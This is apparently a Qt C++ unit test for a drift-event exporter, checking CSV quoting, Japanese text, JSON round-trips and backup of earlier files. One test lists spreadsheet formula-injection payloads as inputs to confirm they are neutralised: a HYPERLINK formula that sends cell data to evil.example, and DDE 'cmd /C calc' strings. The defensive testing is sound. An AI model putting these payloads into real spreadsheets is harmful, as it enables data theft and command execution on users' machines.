// Exported drift events as a user opens them: the CSV parses back (RFC 4180) with Japanese intact and
// hostile cells that cannot run as spreadsheet formulas; the JSON reads back to the same events; the
// file on disk appears whole and keeps the one it replaces.
#include "core/drift/DriftEventJson.h"
#include "core/export/DriftEventExport.h"

#include <QBuffer>
#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTemporaryDir>
#include <QTest>

#include <optional>

using namespace tfdrift;

namespace {

// A strict RFC 4180 reader: CRLF between records, fields quoted or not, quotes doubled inside quotes.
// nullopt for anything RFC 4180 does not allow, so a sloppy writer fails the test.
std::optional<QList<QStringList>> parseCsv(const QString &text)
{
    QList<QStringList> records;
    QStringList record;
    QString field;
    qsizetype i = 0;
    const qsizetype n = text.size();
    while (i < n) {
        if (text.at(i) == u'"') {
            ++i;
            for (;;) {
                if (i >= n)
                    return std::nullopt; // unterminated quote
                if (text.at(i) == u'"') {
                    if (i + 1 < n && text.at(i + 1) == u'"') {
                        field += u'"';
                        i += 2;
                        continue;
                    }
                    ++i;
                    break;
                }
                field += text.at(i++);
            }
        } else {
            while (i < n && text.at(i) != u',' && text.at(i) != u'\r' && text.at(i) != u'\n') {
                if (text.at(i) == u'"')
                    return std::nullopt; // a quote inside an unquoted field
                field += text.at(i++);
            }
        }
        if (i < n && text.at(i) == u',') {
            record.append(field);
            field.clear();
            ++i;
            continue;
        }
        if (i + 1 < n && text.at(i) == u'\r' && text.at(i + 1) == u'\n') {
            record.append(field);
            field.clear();
            records.append(record);
            record.clear();
            i += 2;
            continue;
        }
        if (i < n)
            return std::nullopt; // a bare CR or LF between records, or junk after a closing quote
    }
    if (!record.isEmpty() || !field.isEmpty())
        return std::nullopt; // the last record must end with CRLF too
    return records;
}

// What the drift engine records when it cannot tell a value (QJsonValue() would be a JSON null).
QJsonValue unknown()
{
    return QJsonValue(QJsonValue::Undefined);
}

DriftEvent securityGroupOpened()
{
    DriftEvent event;
    event.id = 7;
    event.detectedAtMs = 1'700'000'000'123; // 2023-11-14T22:13:20.123Z
    event.eventTimeNs = 1'699'999'990'000'000'000;
    event.provider = CloudProvider::Aws;
    event.account = QStringLiteral("111122223333");
    event.region = QStringLiteral("ap-northeast-1");
    event.eventName = QStringLiteral("AuthorizeSecurityGroupIngress");
    event.eventSource = QStringLiteral("ec2.amazonaws.com");
    event.resourceType = QStringLiteral("aws_security_group");
    event.resourceId = QStringLiteral("sg-0abc");
    event.terraformAddress = QStringLiteral("aws_security_group.ssh");
    event.stateName = QStringLiteral("prod");
    event.kind = ChangeKind::Modified;
    event.changes = {{QStringLiteral("port"), 22, QStringLiteral("0.0.0.0/0")}};
    event.caller
        = {QStringLiteral("alice"), QStringLiteral("IAMUser"), QStringLiteral("arn:aws:iam::1:user/alice"),
           QStringLiteral("203.0.113.7"), QStringLiteral("aws-cli/2")};
    event.severity = Severity::High;
    event.matchedRules = {QStringLiteral("Security groups")};
    event.environment = QStringLiteral("production");
    event.alert.rule = QStringLiteral("Terraform Managed Resource Modified");
    event.alert.priority = FalcoPriority::Warning;
    event.alert.source = QStringLiteral("aws_cloudtrail");
    event.alert.hostname = QStringLiteral("falco-1");
    event.alert.output = QStringLiteral("sg opened");
    event.alert.timeNs = event.eventTimeNs;
    event.alert.endpoint = QStringLiteral("prod-falco");
    return event;
}

DriftEvent japaneseDeletion()
{
    DriftEvent event;
    event.id = 8;
    event.detectedAtMs = 1'700'000'100'000;
    event.eventTimeNs = 1'700'000'099'000'000'000;
    event.provider = CloudProvider::Gcp;
    event.account = QStringLiteral("本番-project");
    event.region = QStringLiteral("asia-northeast1");
    event.eventName = QStringLiteral("v1.compute.instances.delete");
    event.eventSource = QStringLiteral("compute.googleapis.com");
    event.resourceType = QStringLiteral("google_compute_instance");
    event.resourceId = QStringLiteral("ウェブサーバー-1");
    event.kind = ChangeKind::Deleted;
    event.changes = {{QStringLiteral("説明"), QStringLiteral("東京の \"Web\" サーバー"), unknown()}};
    event.caller.user = QStringLiteral("山田太郎");
    event.severity = Severity::Critical;
    event.excluded = true;
    event.alert.rule = QStringLiteral("GCP インスタンス削除");
    event.alert.priority = FalcoPriority::Critical;
    event.alert.source = QStringLiteral("gcp_auditlog");
    event.alert.timeNs = event.eventTimeNs;
    return event;
}

QByteArray exportCsv(const QList<DriftEvent> &events)
{
    QByteArray bytes;
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::WriteOnly);
    QString error;
    if (!writeDriftEventsCsv(buffer, events, &error))
        qWarning("CSV export failed: %s", qPrintable(error));
    return bytes;
}

// The records after the header, as a spreadsheet shows them.
QList<QStringList> csvRows(const QList<DriftEvent> &events)
{
    const QByteArray bytes = exportCsv(events);
    const std::optional<QList<QStringList>> records = parseCsv(QString::fromUtf8(bytes.mid(3)));
    if (!records || records->isEmpty())
        return {};
    return records->mid(1);
}

QString cell(const QStringList &row, const QString &column)
{
    const qsizetype index = driftEventCsvColumns().indexOf(column);
    return index >= 0 && index < row.size() ? row.at(index) : QStringLiteral("<no column %1>").arg(column);
}

QByteArray contents(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

} // namespace

class TestDriftEventExport : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void csvStartsWithBomAndTheHeaderRow()
    {
        const QByteArray bytes = exportCsv({});
        QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
        QCOMPARE(
            bytes.mid(3),
            QByteArray("time,severity,change,resource_type,resource_id,terraform_address,state,attributes,"
                       "user,identity_type,account,region,provider,environment,event_name,event_source,"
                       "source_ip,endpoint,falco_rule,excluded\r\n"));
    }

    void aSimpleRowIsExactlyWhatAUserExpects()
    {
        const QByteArray bytes = exportCsv({securityGroupOpened()});
        const QList<QByteArray> lines = bytes.split('\n');
        QCOMPARE(lines.size(), 3); // header, row, and the empty rest after the final CRLF
        QCOMPARE(lines[1],
                 QByteArray(
                     "2023-11-14T22:13:20.123Z,high,modified,aws_security_group,sg-0abc,"
                     "aws_security_group.ssh,prod,port: 22 \xE2\x86\x92 0.0.0.0/0,alice,IAMUser,"
                     "111122223333,ap-northeast-1,aws,production,AuthorizeSecurityGroupIngress,"
                     "ec2.amazonaws.com,203.0.113.7,prod-falco,Terraform Managed Resource Modified,false\r"));
        QVERIFY(lines[2].isEmpty());
    }

    void japaneseSurvivesAndQuotesAreDoubled()
    {
        const QList<QStringList> rows = csvRows({japaneseDeletion()});
        QCOMPARE(rows.size(), 1);
        const QStringList &row = rows[0];
        QCOMPARE(row.size(), driftEventCsvColumns().size());
        QCOMPARE(cell(row, QStringLiteral("user")), QStringLiteral("山田太郎"));
        QCOMPARE(cell(row, QStringLiteral("resource_id")), QStringLiteral("ウェブサーバー-1"));
        QCOMPARE(cell(row, QStringLiteral("account")), QStringLiteral("本番-project"));
        QCOMPARE(cell(row, QStringLiteral("falco_rule")), QStringLiteral("GCP インスタンス削除"));
        QCOMPARE(cell(row, QStringLiteral("attributes")),
                 QStringLiteral("説明: 東京の \"Web\" サーバー \u2192 (unknown)"));
        QCOMPARE(cell(row, QStringLiteral("severity")), QStringLiteral("critical"));
        QCOMPARE(cell(row, QStringLiteral("change")), QStringLiteral("deleted"));
        QCOMPARE(cell(row, QStringLiteral("provider")), QStringLiteral("gcp"));
        QCOMPARE(cell(row, QStringLiteral("excluded")), QStringLiteral("true"));
        QCOMPARE(cell(row, QStringLiteral("terraform_address")), QString());
    }

    void hostileCellsCannotRunAsFormulas_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("shown");
        const QString hyperlink
            = QStringLiteral("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")");
        QTest::newRow("equals") << hyperlink << u'\'' + hyperlink;
        QTest::newRow("plus") << QStringLiteral("+cmd|' /C calc'!A0")
                              << QStringLiteral("'+cmd|' /C calc'!A0");
        QTest::newRow("minus") << QStringLiteral("-2+3+cmd|' /C calc'!A0")
                               << QStringLiteral("'-2+3+cmd|' /C calc'!A0");
        QTest::newRow("at") << QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0")
                            << QStringLiteral("'@SUM(1+1)*cmd|' /C calc'!A0");
        QTest::newRow("tab") << QStringLiteral("\t=1+1") << QStringLiteral("'\t=1+1");
        QTest::newRow("carriage return") << QStringLiteral("\r=1+1") << QStringLiteral("'\r=1+1");
        QTest::newRow("full-width equals") << QStringLiteral("\uFF1D1+1") << QStringLiteral("'\uFF1D1+1");
        QTest::newRow("quotes and comma")
            << QStringLiteral("say \"hi\", then leave") << QStringLiteral("say \"hi\", then leave");
        QTest::newRow("newlines") << QStringLiteral("line one\nline two\r\nline three")
                                  << QStringLiteral("line one\nline two\r\nline three");
        QTest::newRow("dash inside") << QStringLiteral("web-server-1") << QStringLiteral("web-server-1");
        QTest::newRow("japanese") << QStringLiteral("＝ではなく本文") << QStringLiteral("'＝ではなく本文");
    }

    void hostileCellsCannotRunAsFormulas()
    {
        QFETCH(QString, text);
        QFETCH(QString, shown);
        DriftEvent event = securityGroupOpened();
        event.resourceId = text;
        event.caller.user = text;
        event.alert.rule = text;
        const QList<QStringList> rows = csvRows({event});
        QCOMPARE(rows.size(), 1);
        QCOMPARE(rows[0].size(), driftEventCsvColumns().size());
        QCOMPARE(cell(rows[0], QStringLiteral("resource_id")), shown);
        QCOMPARE(cell(rows[0], QStringLiteral("user")), shown);
        QCOMPARE(cell(rows[0], QStringLiteral("falco_rule")), shown);
        QCOMPARE(cell(rows[0], QStringLiteral("region")), QStringLiteral("ap-northeast-1"));
    }

    void attributeValuesStayShortAndOnOneLine()
    {
        DriftEvent event = securityGroupOpened();
        const QString longPolicy
            = QStringLiteral("{\"Statement\":[") + QString(500, u'x') + QStringLiteral("]}");
        event.changes = {
            {QStringLiteral("policy"), QStringLiteral("{}"), longPolicy},
            {QStringLiteral("tags"), QJsonObject{{QStringLiteral("Owner"), QStringLiteral("ops")}},
             unknown()},
            {QStringLiteral("enabled"), true, false},
            {QStringLiteral("note"), QStringLiteral("first\nsecond"), QJsonValue(QJsonValue::Null)},
        };
        const QString summary = driftEventAttributeSummary(event);
        QVERIFY2(summary.size() < 250, qPrintable(summary));
        QVERIFY(!summary.contains(u'\n'));
        QVERIFY(summary.startsWith(QStringLiteral("policy: {} \u2192 {\"Statement\":[xxx")));
        QVERIFY(
            summary.contains(QStringLiteral("x\u2026; tags: {\"Owner\":\"ops\"} \u2192 (unknown); "
                                            "enabled: true \u2192 false; note: first second \u2192 null")));
    }

    void jsonReadsBackToTheSameEvents()
    {
        const QList<DriftEvent> events{securityGroupOpened(), japaneseDeletion()};
        QByteArray bytes;
        QBuffer buffer(&bytes);
        QVERIFY(buffer.open(QIODevice::WriteOnly));
        QString error;
        QVERIFY2(writeDriftEventsJson(buffer, events, &error), qPrintable(error));

        QJsonParseError parseError;
        const QJsonDocument document = QJsonDocument::fromJson(bytes, &parseError);
        QCOMPARE(parseError.error, QJsonParseError::NoError);
        QVERIFY(document.isArray());
        const QJsonArray array = document.array();
        QCOMPARE(array.size(), 2);
        for (qsizetype i = 0; i < array.size(); ++i) {
            QString readError;
            const std::optional<DriftEvent> event = driftEventFromJson(array.at(i).toObject(), &readError);
            QVERIFY2(event, qPrintable(readError));
            QCOMPARE(driftEventToJson(*event), driftEventToJson(events.at(i)));
            QCOMPARE(event->alert.endpoint, events.at(i).alert.endpoint);
        }
        QCOMPARE(
            array.at(1).toObject().value(QStringLiteral("user")).toObject().value(QStringLiteral("name")),
            QJsonValue(QStringLiteral("山田太郎")));
    }

    void anEmptyJsonExportIsAnEmptyArray()
    {
        QByteArray bytes;
        QBuffer buffer(&bytes);
        QVERIFY(buffer.open(QIODevice::WriteOnly));
        QString error;
        QVERIFY(writeDriftEventsJson(buffer, {}, &error));
        const QJsonDocument document = QJsonDocument::fromJson(bytes);
        QVERIFY(document.isArray());
        QVERIFY(document.array().isEmpty());
    }

    void theStreamingWriterWritesTheSameAsTheWholeList()
    {
        const QList<DriftEvent> events{securityGroupOpened(), japaneseDeletion(), securityGroupOpened()};
        for (DriftExportFormat format : {DriftExportFormat::Csv, DriftExportFormat::Json}) {
            QByteArray whole;
            QBuffer wholeBuffer(&whole);
            QVERIFY(wholeBuffer.open(QIODevice::WriteOnly));
            QString error;
            if (format == DriftExportFormat::Csv)
                QVERIFY(writeDriftEventsCsv(wholeBuffer, events, &error));
            else
                QVERIFY(writeDriftEventsJson(wholeBuffer, events, &error));

            QByteArray streamed;
            QBuffer streamedBuffer(&streamed);
            QVERIFY(streamedBuffer.open(QIODevice::WriteOnly));
            const std::unique_ptr<DriftEventWriter> writer = createDriftEventWriter(format, streamedBuffer);
            QVERIFY(writer->begin());
            for (const DriftEvent &event : events)
                QVERIFY(writer->append(event));
            QVERIFY(writer->finish());
            QCOMPARE(streamed, whole);
        }
    }

    void aDeviceThatCannotBeWrittenIsAnError()
    {
        QByteArray bytes;
        QBuffer readOnly(&bytes);
        QVERIFY(readOnly.open(QIODevice::ReadOnly));
        QString error;
        QVERIFY(!writeDriftEventsCsv(readOnly, {securityGroupOpened()}, &error));
        QVERIFY(!error.isEmpty());
        error.clear();
        QVERIFY(!writeDriftEventsJson(readOnly, {securityGroupOpened()}, &error));
        QVERIFY(!error.isEmpty());
    }

    void exportToAFileKeepsThePreviousExport()
    {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("drift.csv"));
        QCOMPARE(driftExportFormatForFileName(path), DriftExportFormat::Csv);
        QCOMPARE(driftExportFormatForFileName(QStringLiteral("/tmp/Drift.JSON")), DriftExportFormat::Json);
        QCOMPARE(driftExportFormatForFileName(QStringLiteral("drift.txt")), std::nullopt);

        QString error;
        QVERIFY2(exportDriftEvents(path, DriftExportFormat::Csv, {securityGroupOpened()}, &error),
                 qPrintable(error));
        const QByteArray first = contents(path);
        QCOMPARE(first, exportCsv({securityGroupOpened()}));
        QVERIFY2(exportDriftEvents(path, DriftExportFormat::Csv, {japaneseDeletion()}, &error),
                 qPrintable(error));
        QCOMPARE(contents(path), exportCsv({japaneseDeletion()}));
        QCOMPARE(contents(path + QStringLiteral(".bak")), first);

        const QString jsonPath = dir.filePath(QStringLiteral("drift.json"));
        QVERIFY2(exportDriftEvents(jsonPath, DriftExportFormat::Json, {japaneseDeletion()}, &error),
                 qPrintable(error));
        QCOMPARE(QJsonDocument::fromJson(contents(jsonPath)).array().size(), 1);

        const QString unwritable = dir.filePath(QStringLiteral("drift.csv/inside.csv"));
        QVERIFY(!exportDriftEvents(unwritable, DriftExportFormat::Csv, {securityGroupOpened()}, &error));
        QVERIFY2(error.contains(QDir::toNativeSeparators(unwritable)), qPrintable(error));
    }
};

QTEST_GUILESS_MAIN(TestDriftEventExport)
#include "test_drift_event_export.moc"
